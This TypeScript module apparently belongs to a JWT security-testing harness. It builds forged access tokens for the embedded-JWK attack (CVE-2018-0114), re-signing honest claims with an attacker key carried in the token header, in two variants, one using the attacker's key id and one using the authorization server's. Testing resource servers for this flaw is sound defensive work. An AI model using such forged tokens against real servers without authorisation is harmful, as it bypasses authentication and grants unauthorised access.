/**
 * embedded-jwk — the honest claims signed with the attacker's key, which
 * rides in the header's `jwk` (RFC 7515 §4.1.3). An RS that verifies with
 * the key the token brings accepts anything (CVE-2018-0114); the kid is the
 * attacker's and, in a second variant, the AS's own.
 */
import { SignJWT } from 'jose'
import { claimsFor, splitJwt } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

export const embeddedJwk = defineAttack({
  id: 'embedded-jwk',
  summary: 'trusts a key embedded in the token header (jwk)',
  refs: ['RFC 7515 §4.1.3', 'RFC 8725 §3.1'],
  async build(kit) {
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const { publicJwk, privateKey, kid } = kit.attacker
    const asKid = splitJwt(kit.honest)?.header.kid
    const sign = (k: unknown) =>
      new SignJWT(claims)
        .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid: String(k), jwk: publicJwk })
        .sign(privateKey)
    const requests = [{ variant: 'jwk header, attacker kid', token: await sign(kid) }]
    if (typeof asKid === 'string') requests.push({ variant: 'jwk header, the AS kid', token: await sign(asKid) })
    return { applicable: true, requests }
  },
})
